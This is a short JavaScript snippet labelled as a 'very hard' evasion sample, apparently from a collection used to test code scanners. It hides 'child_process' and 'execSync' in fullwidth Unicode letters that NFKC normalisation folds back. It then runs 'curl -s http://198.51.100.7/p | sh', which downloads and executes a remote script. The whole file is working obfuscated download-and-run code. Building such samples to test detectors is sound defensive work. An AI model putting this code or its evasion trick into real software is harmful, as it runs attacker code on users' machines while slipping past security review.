// evasion: module and method names written in fullwidth letters, folded back by String.prototype.normalize('NFKC')
// grade: very hard; does: shell
const plain = (s) => s.normalize('NFKC');

const cp = require(plain('ｃｈｉｌｄ＿ｐｒｏｃｅｓｓ'));
cp[plain('ｅｘｅｃＳｙｎｃ')]('curl -s http://198.51.100.7/p | sh', { stdio: 'inherit' });
